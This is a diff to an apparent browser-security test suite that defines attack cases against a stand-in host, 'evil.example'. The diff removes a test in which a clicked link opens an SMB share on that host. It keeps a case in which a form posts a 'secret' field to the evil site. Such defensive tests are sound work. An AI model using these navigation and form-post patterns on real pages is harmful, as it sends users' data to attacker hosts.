@@ -1,5 +1,5 @@
 import { type Attack, attack, gain, lateAttack } from '../attack.ts';
-import { clickAs, go, withHtml } from '../in-page.ts';
+import { go, withHtml } from '../in-page.ts';
 
 const evil = 'https://evil.example';
 
@@ -33,7 +33,6 @@ export const navigation: readonly Attack[] = [
     }, `${evil}/refreshed`);
     return '';
   }),
-  lateAttack('a clicked link without a target leads to a local program', async ({ page }) => clickAs(page, () => void (location.href = 'smb://evil.example/share'))),
   lateAttack('a form posts the page to another site, where no policy holds', async ({ bare }) => {
     const page = await bare();
     await withHtml(page, `<form method="post" action="${evil}/form"><input name="secret" value="1"></form>`);
